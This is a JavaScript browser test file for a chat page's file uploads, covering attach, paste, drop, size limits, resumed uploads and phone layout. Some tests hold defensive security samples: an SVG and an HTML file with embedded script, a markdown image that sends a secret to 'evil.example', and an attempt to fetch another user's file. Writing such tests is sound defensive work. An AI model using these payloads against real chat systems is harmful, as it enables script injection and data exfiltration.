// Files in the chat page, in a real browser: attached, uploaded, sent, shown again, and to nobody else.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import {after, before, test} from 'node:test';
import {deflateSync, crc32} from 'node:zlib';

import {answered, checkAccessibility, launchBrowser, newProfile, screenshots, watchErrors} from '../support/browser.mjs';
import {startGateway} from '../support/gateway.mjs';

/** A picture of one colour. */
function png(width, height, [r, g, b]) {
  const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), body.length + 4);
    return out;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, Buffer.from([r, g, b]))]);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.concat(Array(height).fill(row)))), chunk('IEND', Buffer.alloc(0))]);
}

const picture = {name: 'sunset.png', mimeType: 'image/png', buffer: png(320, 200, [230, 120, 60])};
const note = {name: 'note.txt', mimeType: 'text/plain', buffer: Buffer.from('the needle is here')};

let gateway;
let browser;

before(async () => {
  gateway = await startGateway({args: ['--dev'], config: `
server: {host: 127.0.0.1, port: 0}
auth: {apiKey: test-key-of-the-browser-tests}
providers:
  - {name: echo, plugin: echo, tokensPerSecond: 100}
channels:
  webchat: {enabled: true, dmPolicy: open, allowFrom: ["*"], maxFileMb: 2, imageOrigins: ["https://pictures.example"]}
`});
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await gateway?.stop();
});

/** Runs `body` in a browser profile of its own and fails on any error the page reports. */
async function visit(options, body) {
  const {url = gateway.url, prepare, expected = /^$/, ...context} = options;
  const profile = await newProfile(browser, context);
  const problems = [];
  const page = await profile.newPage();
  watchErrors(page, problems, (line) => expected.test(line.text()));
  try {
    await prepare?.(page);
    await page.goto(`${url}/chat`);
    await page.waitForSelector('#status[data-state=online]');
    await body(page, profile);
    assert.deepEqual(problems, []);
  } finally {
    await profile.close();
  }
}

const uploaded = (page, n = 1) => page.waitForFunction((count) => document.querySelectorAll('.chip[data-state=done]').length === count, n);
const loaded = (page) => page.waitForFunction(() => {
  const images = [...document.querySelectorAll('.user .picture img')];
  return images.length > 0 && images.every((i) => i.complete && i.naturalWidth === 320);
});


test('files are attached, sent, read by the model, and there after a reload', async () => {
  await visit({}, async (page) => {
    await page.setInputFiles('#files', [picture, note]);
    await uploaded(page, 2);
    assert.deepEqual(await page.locator('.chip-name').allInnerTexts(), ['sunset.png', 'note.txt']);
    await checkAccessibility(page);
    await page.screenshot({path: `${screenshots}files-chips.png`});
    await page.fill('#input', 'what is this?');
    await page.press('#input', 'Enter');
    assert.equal(await page.locator('.chip').count(), 0);
    await answered(page);
    const [answer] = await page.locator('.assistant .body').allInnerTexts();
    assert.match(answer, /what is this\?/);
    assert.match(answer, /the needle is here/);
    await loaded(page);
    await page.reload();
    await answered(page);
    await loaded(page);
    assert.equal(await page.locator('.user .body').innerText(), 'what is this?');
    assert.equal(await page.locator('.user .picture img').getAttribute('alt'), 'sunset.png');
    assert.match(await page.locator('.user button.file').innerText(), /note\.txt/);
    await checkAccessibility(page);
    await page.screenshot({path: `${screenshots}files-message.png`});
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('.user button.file')]);
    assert.equal(download.suggestedFilename(), 'note.txt');
    assert.equal(fs.readFileSync(await download.path(), 'utf8'), 'the needle is here');
  });
});

test('a picture alone is a message', async () => {
  await visit({}, async (page) => {
    assert.ok(await page.isDisabled('#send'));
    await page.setInputFiles('#files', [picture]);
    await uploaded(page);
    await page.click('#send');
    await answered(page);
    await loaded(page);
    assert.equal(await page.locator('.user').count(), 1);
    await page.reload();
    await answered(page);
    await loaded(page);
    assert.equal(await page.locator('.user').count(), 1, 'shown once');
    assert.equal(await page.locator('.user .body').isVisible(), false, 'without a line for the model');
    assert.equal(await page.title(), 'OpenClaw');
    assert.equal(await page.innerText('#title'), 'sunset.png');
  });
});

test('files are pasted and dropped', async () => {
  await visit({}, async (page) => {
    await page.evaluate(() => {
      const with_ = (name) => {
        const data = new DataTransfer();
        data.items.add(new File(['content'], name, {type: 'text/plain'}));
        return data;
      };
      document.getElementById('input').dispatchEvent(new ClipboardEvent('paste', {clipboardData: with_('pasted.txt'), bubbles: true, cancelable: true}));
      document.body.dispatchEvent(new DragEvent('dragover', {dataTransfer: with_('dropped.txt'), bubbles: true, cancelable: true}));
      document.body.dispatchEvent(new DragEvent('drop', {dataTransfer: with_('dropped.txt'), bubbles: true, cancelable: true}));
    });
    await uploaded(page, 2);
    assert.deepEqual(await page.locator('.chip-name').allInnerTexts(), ['pasted.txt', 'dropped.txt']);
    assert.equal(await page.locator('body.dropping').count(), 0);
  });
});

test('one that is too large, empty or too many is refused in words', async () => {
  await visit({locale: 'de-DE'}, async (page) => {
    const large = {name: 'groß.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(2 * 1024 * 1024 + 1)};
    await page.setInputFiles('#files', [large]);
    await page.waitForSelector('.chip.failed');
    assert.match(await page.innerText('#notice'), /^groß\.bin ist zu groß: Eine Datei darf höchstens 2 MB haben\.$/);
    assert.equal(await page.innerText('.chip-state'), 'Zu groß');
    assert.ok(await page.isDisabled('#send'));
    await checkAccessibility(page);
    await page.screenshot({path: `${screenshots}files-too-large.png`});
    await page.click('.chip-remove');
    assert.equal(await page.locator('.chip').count(), 0);
    assert.equal(await page.isVisible('#notice'), false);
    await page.setInputFiles('#files', [{...note, buffer: Buffer.alloc(0)}]);
    await page.waitForSelector('.chip.failed');
    assert.match(await page.innerText('#notice'), /Diese Datei ist leer/);
    await page.click('.chip-remove');
    await page.setInputFiles('#files', Array.from({length: 11}, (_, i) => ({...note, name: `${i}.txt`})));
    await uploaded(page, 10);
    assert.match(await page.innerText('#notice'), /zehn Dateien/);
  });
});

test('progress is shown, and what is removed meanwhile goes nowhere', async () => {
  let hold;
  const held = new Promise((resolve) => { hold = resolve; });
  let pieces = 0;
  const sent = [];
  const prepare = (page) => page.routeWebSocket(/\/ws$/, (socket) => {
    const server = socket.connectToServer();
    socket.onMessage((message) => {
      if (typeof message === 'string') sent.push(JSON.parse(message));
      else if (++pieces === 2) return void hold(() => server.send(message));
      server.send(message);
    });
  });
  await visit({prepare}, async (page) => {
    await page.setInputFiles('#files', [{name: 'long.bin', mimeType: '', buffer: Buffer.alloc(1024 * 1024, 7)}]);
    const release = await held;
    await page.waitForFunction(() => document.querySelector('.chip progress')?.value === 256 * 1024);
    await page.fill('#input', 'text');
    assert.ok(await page.isDisabled('#send'), 'while it is uploaded');
    await page.press('#input', 'Enter');
    assert.equal(await page.locator('.user').count(), 0);
    await page.screenshot({path: `${screenshots}files-progress.png`});
    await page.focus('.chip-remove');
    await page.keyboard.press('Enter');
    assert.equal(await page.locator('.chip').count(), 0);
    assert.equal(await page.evaluate(() => document.activeElement.id), 'input');
    release();
    await page.setInputFiles('#files', [note]);
    await uploaded(page);
    await page.press('#input', 'Enter');
    await answered(page);
    assert.equal(sent.filter((f) => f.type === 'drop_file').length, 1);
    assert.equal(sent.find((f) => f.type === 'message').files.length, 1);
  });
});

test('nobody else gets a file', async () => {
  await visit({}, async (page) => {
    await page.setInputFiles('#files', [note]);
    await uploaded(page);
    await page.click('#send');
    await answered(page);
    const file = await page.evaluate(() => new Promise((resolve) => {
      const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/channels/webchat/ws`);
      socket.onopen = () => socket.send(JSON.stringify({type: 'hello', protocol: 1, token: localStorage.getItem('openclaw.webchat.token')}));
      socket.onmessage = ({data}) => resolve(JSON.parse(data).history.find((m) => m.files).files[0].file);
    }));
    assert.match(file, /^[0-9a-f]{32}$/);
    await visit({}, async (stranger) => {
      const answers = await stranger.evaluate((wanted) => new Promise((resolve) => {
        const seen = [];
        const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/channels/webchat/ws`);
        socket.onopen = () => socket.send(JSON.stringify({type: 'hello', protocol: 1, token: localStorage.getItem('openclaw.webchat.token')}));
        socket.onmessage = ({data}) => {
          seen.push(typeof data === 'string' ? JSON.parse(data) : 'bytes');
          if (seen.length === 1) {
            socket.send(JSON.stringify({type: 'get_file', file: wanted, part: 0}));
            socket.send(JSON.stringify({type: 'message', id: 'message-1', text: 'mine', files: [wanted]}));
          }
          if (seen.length === 3) resolve(seen.slice(1));
        };
      }), file);
      assert.deepEqual(answers.map((a) => [a.type, a.code]), [['error', 'file_gone'], ['error', 'file_gone']]);
    });
  });
});

test('a page that calls itself a picture is saved, never opened', async () => {
  await visit({}, async (page) => {
    const script = '<svg xmlns="http://www.w3.org/2000/svg"><script>window.hacked=1</script></svg>';
    await page.setInputFiles('#files', [
      {name: 'a.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(script)},
      {name: 'b.html', mimeType: 'text/html', buffer: Buffer.from('<script>window.hacked=1</script>')},
    ]);
    await uploaded(page, 2);
    await page.click('#send');
    await answered(page);
    assert.equal(await page.locator('.user .files img').count(), 0);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('.user button.file')]);
    assert.equal(download.suggestedFilename(), 'a.svg');
    assert.equal(await page.evaluate(() => window.hacked), undefined);
  });
});

test('an upload that is cut begins again by itself', async () => {
  let pieces = 0;
  const announced = [];
  const prepare = (page) => page.routeWebSocket(/\/ws$/, (socket) => {
    const server = socket.connectToServer();
    socket.onMessage((message) => {
      if (typeof message === 'string' && JSON.parse(message).type === 'file') announced.push(message);
      if (typeof message !== 'string' && ++pieces === 2) return void socket.close({code: 1012});
      server.send(message);
    });
  });
  await visit({prepare}, async (page) => {
    await page.setInputFiles('#files', [{...note, buffer: Buffer.from(`${'x'.repeat(600 * 1024)} the end`)}]);
    await uploaded(page);
    assert.equal(announced.length, 2);
    await page.click('#send');
    await answered(page);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('.user button.file')]);
    assert.ok(fs.readFileSync(await download.path(), 'utf8').endsWith('x the end'));
  });
});

test('pictures in answers are loaded from named origins only', async () => {
  const asked = [];
  const prepare = (page) => page.route(/^https:\/\/(pictures|evil)\.example\//, (route) => {
    asked.push([route.request().url(), route.request().headers().referer]);
    return route.fulfill({contentType: 'image/png', body: picture.buffer});
  });
  await visit({prepare, expected: /img-src/}, async (page) => {
    await page.fill('#input', '![a sunset](https://pictures.example/a.png) ![evil](https://evil.example/?secret) ![two](http://pictures.example/b.png)');
    await page.press('#input', 'Enter');
    await answered(page);
    const image = page.locator('.assistant img');
    await page.waitForFunction(() => document.querySelector('.assistant img')?.naturalWidth === 320);
    assert.equal(await image.count(), 1);
    assert.equal(await image.getAttribute('alt'), 'a sunset');
    assert.deepEqual(await page.locator('.assistant a').allInnerTexts(), ['evil', 'two']);
    assert.deepEqual(asked, [['https://pictures.example/a.png', undefined]]);
    await checkAccessibility(page);
    // The policy stands behind the page: even a picture that got in would not be asked for.
    const blocked = await page.evaluate(() => new Promise((resolve) => {
      addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {once: true});
      new Image().src = 'https://evil.example/?secret';
    }));
    assert.equal(blocked, 'img-src');
    assert.equal(asked.length, 1);
  });
});

for (const look of [{name: 'phone', colorScheme: 'light'}, {name: 'phone-dark', colorScheme: 'dark'}]) {
  test(`files fit a phone: ${look.name}`, async () => {
    await visit({viewport: {width: 360, height: 720}, colorScheme: look.colorScheme}, async (page) => {
      await page.setInputFiles('#files', [picture, {...note, name: `${'a-very-long-name-'.repeat(8)}.txt`}, {...picture, name: 'two.png'}]);
      await uploaded(page, 3);
      await checkAccessibility(page);
      await page.screenshot({path: `${screenshots}files-${look.name}-chips.png`});
      await page.fill('#input', 'three files');
      await page.press('#input', 'Enter');
      await answered(page);
      await loaded(page);
      const [content, window] = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
      assert.ok(content <= window, `${content} px wide in ${window} px`);
      await checkAccessibility(page);
      await page.screenshot({path: `${screenshots}files-${look.name}.png`});
    });
  });
}
